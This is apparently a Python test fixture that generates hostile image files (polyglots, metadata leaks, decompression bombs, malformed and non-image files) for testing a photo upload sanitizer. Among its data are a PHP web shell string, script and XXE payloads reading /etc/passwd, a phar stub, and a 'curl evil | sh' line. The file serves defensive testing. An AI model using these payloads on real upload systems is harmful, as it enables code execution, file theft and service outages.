"""A corpus of files that attackers, broken phones and curious people send.

`HOSTILE` maps a name to its bytes. `MARK` is planted wherever a file can carry something
beside its pixels: it must never come out again.
"""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib

from PIL import Image, PngImagePlugin

from lokahome.tests.core.files.corpus import (
    EPS,
    HTML,
    SVG,
    bomb_png,
    encoded,
    jpeg,
    located_jpeg,
    picture,
    png,
    webp,
)

MARK = b"canary-7f3a-of-Ama-Dossou"
PHP = b"<?php system($_GET['" + MARK + b"']); ?>"
SCRIPT = b"<script>alert('" + MARK + b"')</script>"
ENTITIES = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + b"".join(
        b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)
    )
    + b'<!ENTITY f SYSTEM "file:///etc/passwd">]><svg>&f;&j;</svg>'
)


def segment(marker: int, body: bytes) -> bytes:
    """Return a JPEG segment."""
    return struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body


def with_segments(*segments: bytes, base: bytes = b"") -> bytes:
    """Return a JPEG with *segments* after its beginning."""
    base = base or jpeg()
    return base[:2] + b"".join(segments) + base[2:]


def chunk(kind: bytes, data: bytes) -> bytes:
    """Return a PNG chunk with its sum."""
    return struct.pack(">I", len(data)) + kind + data + _sum(kind + data)


def _sum(data: bytes) -> bytes:
    return struct.pack(">I", zlib.crc32(data))


def with_chunks(*chunks: bytes, base: bytes = b"") -> bytes:
    """Return a PNG with *chunks* after its header."""
    base = base or png()
    return base[:33] + b"".join(chunks) + base[33:]


def header(width: int, height: int, depth: int = 8, colour: int = 2) -> bytes:
    """Return a PNG that says these things of itself, and holds one row."""
    row = zlib.compress(b"\x00" * 64)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
        + chunk(b"IDAT", row)
        + chunk(b"IEND", b"")
    )


def sized_jpeg(width: int, height: int) -> bytes:
    """Return a JPEG whose frame header lies about its size."""
    raw = bytearray(jpeg())
    at = raw.index(b"\xff\xc0") + 5
    raw[at : at + 4] = struct.pack(">HH", height, width)
    return bytes(raw)


def riff(kind: bytes, *chunks: tuple[bytes, bytes]) -> bytes:
    """Return a RIFF container."""
    body = b"".join(
        name + struct.pack("<I", len(data)) + data + b"\x00" * (len(data) % 2)
        for name, data in chunks
    )
    return b"RIFF" + struct.pack("<I", len(body) + 4) + kind + body


def webp_with(*chunks: tuple[bytes, bytes], flags: int = 0) -> bytes:
    """Return a WebP of the extended kind with *chunks* beside the picture."""
    simple = webp()
    size = struct.pack("<I", 63)[:3] + struct.pack("<I", 47)[:3]
    beginning = (b"VP8X", bytes([flags, 0, 0, 0]) + size)
    (length,) = struct.unpack("<I", simple[16:20])
    return riff(b"WEBP", beginning, (simple[12:16], simple[20 : 20 + length]), *chunks)


def archive(name: str, content: bytes) -> bytes:
    """Return a ZIP of one file."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr(name, content)
    return out.getvalue()


def animated(form: str, frames: int) -> bytes:
    """Return *frames* pictures in one file."""
    pictures = [picture(32 + n % 3, 32).resize((32, 32)) for n in range(frames)]
    for number, frame in enumerate(pictures):
        frame.putpixel((number % 32, 0), (number % 256, 0, 0))
    first, *rest = pictures
    return encoded(first, form, save_all=True, append_images=rest, duration=10)


def texts(**values: bytes) -> PngImagePlugin.PngInfo:
    """Return what a PNG may say in words."""
    info = PngImagePlugin.PngInfo()
    for key, value in values.items():
        info.add_text(key, value.decode("latin-1"))
    return info


def exif(**fields: object) -> bytes:
    """Return an EXIF block with MARK as its owner."""
    block = Image.Exif()
    block[0x013B] = MARK.decode()
    block[0x9286] = MARK
    gps = block.get_ifd(0x8825)
    gps.update({1: "N", 2: (6.0, 21.0, 55.0), 3: "E", 4: (2.0, 25.0, 6.0)})
    return block.tobytes()


XMP = b"http://ns.adobe.com/xap/1.0/\x00<x:xmpmeta>" + SCRIPT + b"</x:xmpmeta>"
HUGE_TEXT = zlib.compress(b"A" * 80_000_000, 9)

POLYGLOTS = {
    "jpeg then zip": jpeg() + archive("evil.html", SCRIPT),
    "jpeg then html": jpeg() + HTML + MARK,
    "jpeg then php": jpeg() + PHP,
    "jpeg then pdf": jpeg() + b"%PDF-1.7\n" + MARK,
    "jpeg then another jpeg": jpeg() + located_jpeg() + MARK,
    "jpeg then elf": jpeg() + b"\x7fELF" + MARK,
    "jpeg with php as comment": with_segments(segment(0xFE, PHP)),
    "jpeg that is javascript": b"\xff\xd8\xff\xe0"
    + struct.pack(">H", 0x2F2A)
    + b"\x00" * (0x2F2A - 2)
    + segment(0xFE, b"*/=1;alert(1)/*" + MARK)
    + jpeg()[2:],
    "jpeg with script as xmp": with_segments(segment(0xE1, XMP)),
    "jpeg with html in the profile": with_segments(
        segment(0xE2, b"ICC_PROFILE\x00\x01\x01" + HTML + MARK)
    ),
    "jpeg with a phar stub": with_segments(
        segment(0xFE, PHP + b"__HALT_COMPILER(); ?>")
    ),
    "png then zip": png() + archive("evil.html", SCRIPT),
    "png then php": png() + PHP,
    "png with html as text": encoded(
        picture(), "PNG", pnginfo=texts(Comment=SCRIPT, Software=PHP)
    ),
    "png with php in a private chunk": with_chunks(chunk(b"phPx", PHP)),
    "png with a swf behind": png() + b"CWS\x0a" + MARK,
    "webp then zip": webp() + archive("evil.html", SCRIPT),
    "webp with script as xmp": webp_with((b"XMP ", XMP), flags=4),
    "webp with an unknown chunk": webp_with((b"EVIL", PHP)),
    "pdf then jpeg": b"%PDF-1.7\n" + MARK + jpeg(),
    "html then jpeg": HTML + MARK + jpeg(),
    "zip then jpeg": archive("evil.html", SCRIPT) + jpeg(),
    "gif that is javascript": b"GIF89a/*" + MARK + b"*/=1;alert(1)",
}
TELLTALES = {
    "jpeg with place and owner": located_jpeg(),
    "jpeg with exif of ama": jpeg(exif=exif()),
    "jpeg with a thumbnail": jpeg(exif=exif(), comment=MARK),
    "png with exif": encoded(picture(), "PNG", exif=exif()),
    "png with a time and words": encoded(picture(), "PNG", pnginfo=texts(Author=MARK)),
    "webp with exif": encoded(picture(), "WEBP", exif=exif()),
    "jpeg with iptc": with_segments(segment(0xED, b"Photoshop 3.0\x00" + MARK)),
    "jpeg with makernotes": with_segments(segment(0xEB, b"HUAWEI" + MARK * 20)),
    "jpeg with a damaged exif": with_segments(
        segment(0xE1, b"Exif\x00\x00MM\x00*\xff\xff\xff\xff" + MARK)
    ),
    "jpeg with exif that points at itself": with_segments(
        segment(
            0xE1,
            b"Exif\x00\x00II*\x00\x08\x00\x00\x00\x01\x00\x69\x87\x04\x00\x01\x00"
            b"\x00\x00\x08\x00\x00\x00\x08\x00\x00\x00" + MARK,
        )
    ),
}
BOMBS = {
    "png of 400 megapixels": bomb_png(),
    "png that says two thousand million": header(2**31 - 1, 2**31 - 1),
    "png as wide as it may": header(2**31 - 1, 1),
    "png as tall as it may": header(1, 2**31 - 1),
    "png of 41 megapixels": header(41_000, 1_000),
    "jpeg that says 65535 squared": sized_jpeg(65_535, 65_535),
    "jpeg one pixel wide": sized_jpeg(1, 65_535),
    "png with an 80 MB text": with_chunks(
        chunk(b"zTXt", b"Comment\x00\x00" + HUGE_TEXT)
    ),
    "png with an 80 MB international text": with_chunks(
        chunk(b"iTXt", b"Comment\x00\x01\x00\x00\x00" + HUGE_TEXT)
    ),
    "png with an 80 MB profile": with_chunks(chunk(b"iCCP", b"p\x00\x00" + HUGE_TEXT)),
    "png with ten thousand chunks": with_chunks(chunk(b"tEXt", b"a\x00b") * 10_000),
    "png that unpacks to more than it says": with_chunks(
        chunk(b"IDAT", zlib.compress(b"\x00" * 30_000_000, 9))
    ),
    "jpeg with ten thousand comments": with_segments(*[segment(0xFE, b"x")] * 10_000),
    "jpeg with a thousand scans": jpeg(progressive=True)[:-2]
    + segment(0xDA, b"\x01\x01\x00\x00\x3f\x00") * 1_000
    + b"\xff\xd9",
    "animated webp": animated("WEBP", 40),
    "animated png": animated("PNG", 40),
    "gzip of nothing": gzip.compress(b"\x00" * 10_000_000),
    "zip of zeroes": archive("zero", b"\x00" * 10_000_000),
    "svg of entities": ENTITIES,
}
BROKEN = {
    "jpeg start alone": b"\xff\xd8\xff",
    "jpeg of ends": b"\xff\xd8\xff\xd9" * 50,
    "jpeg without tables": jpeg()[:20] + jpeg()[jpeg().index(b"\xff\xc0") :],
    "jpeg without a scan": jpeg()[: jpeg().index(b"\xff\xda")],
    "jpeg of no size": sized_jpeg(0, 0),
    "jpeg segment past the end": b"\xff\xd8\xff\xe0\xff\xff" + MARK,
    "jpeg segment of no length": b"\xff\xd8\xff\xe0\x00\x00" + jpeg()[2:],
    "jpeg cut in the middle": jpeg(400, 300)[:2_000],
    "jpeg with wild data": jpeg(200, 150)[:-400] + bytes(range(256)) + b"\xff\xd9",
    "png signature alone": b"\x89PNG\r\n\x1a\n",
    "png of no size": header(0, 0),
    "png of unknown colours": header(8, 8, 8, 9),
    "png of odd depth": header(8, 8, 7, 2),
    "png without pixels": png()[:33] + chunk(b"IEND", b""),
    "png with two headers": with_chunks(png()[8:33]),
    "png with a wrong sum": png()[:29] + b"\x00\x00\x00\x00" + png()[33:],
    "png chunk past the end": png()[:33] + b"\x7f\xff\xff\xffIDAT",
    "png cut in the middle": png(400, 300)[:900],
    "png with a palette that is short": header(8, 8, 8, 3),
    "webp header alone": b"RIFF\x00\x00\x00\x00WEBP",
    "webp of a sound": b"RIFF\x24\x00\x00\x00WEBPfmt ",
    "webp of no size": riff(b"WEBP", (b"VP8 ", b"\x00" * 10)),
    "webp that lies about its length": b"RIFF\xff\xff\xff\x7fWEBP" + webp()[12:],
    "webp cut in the middle": webp(400, 300)[:300],
    "webp lossless and empty": riff(b"WEBP", (b"VP8L", b"\x2f\xff\xff\xff\xff")),
}
ODD_PHOTOS = {
    "jpeg in four inks": encoded(picture().convert("CMYK"), "JPEG"),
    "jpeg in grey": encoded(picture(mode="L"), "JPEG"),
    "jpeg progressive": jpeg(progressive=True),
    "jpeg of one pixel": jpeg(1, 1),
    "png with depth 16": encoded(picture().convert("I;16"), "PNG"),
    "png of one bit": encoded(picture().convert("1"), "PNG"),
    "png with a palette": encoded(picture().convert("P"), "PNG"),
    "png that is all transparent": encoded(Image.new("RGBA", (9, 9)), "PNG"),
    "webp lossless": encoded(picture(), "WEBP", lossless=True),
    "photos of two eyes": encoded(
        picture(), "MPO", save_all=True, append_images=[picture()]
    ),
}
NOT_PHOTOS = {
    "svg": SVG + MARK,
    "svg with a mark before": b"\xef\xbb\xbf" + SVG,
    "svg of two bytes a letter": SVG.decode().encode("utf-16"),
    "svg packed": gzip.compress(SVG),
    "eps": EPS,
    "eps with a preview": b"\xc5\xd0\xd3\xc6" + struct.pack("<II", 32, len(EPS)) + EPS,
    "postscript": b"%!PS\n(/etc/passwd) (r) file\n",
    "pdf": b"%PDF-1.7\n1 0 obj<</JS(app.alert(1))>>",
    "heic": b"\x00\x00\x00\x18ftypheic" + b"\x00" * 60,
    "avif": b"\x00\x00\x00\x18ftypavif" + b"\x00" * 60,
    "jpeg xl": b"\xff\x0a" + b"\x00" * 60,
    "jpeg 2000": b"\x00\x00\x00\x0cjP  \r\n\x87\n" + b"\x00" * 60,
    "gif": encoded(picture(), "GIF"),
    "tiff": encoded(picture(), "TIFF"),
    "bmp": encoded(picture(), "BMP"),
    "icon": encoded(picture(), "ICO"),
    "photoshop": b"8BPS\x00\x01" + b"\x00" * 60,
    "portable pixmap": encoded(picture(), "PPM"),
    "movie": b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 60,
    "office document": archive("word/document.xml", b"<w:p/>"),
    "windows program": b"MZ\x90\x00" + b"\x00" * 60,
    "android package": archive("classes.dex", b"dex\n035\x00"),
    "shell script": b"#!/bin/sh\ncurl evil | sh\n",
    "html": HTML,
    "one zero": b"\x00",
    "a line of text": b"bonjour",
    "ones": b"\xff" * 4_096,
}
HOSTILE: dict[str, bytes] = {
    **POLYGLOTS,
    **TELLTALES,
    **BOMBS,
    **BROKEN,
    **ODD_PHOTOS,
    **NOT_PHOTOS,
}
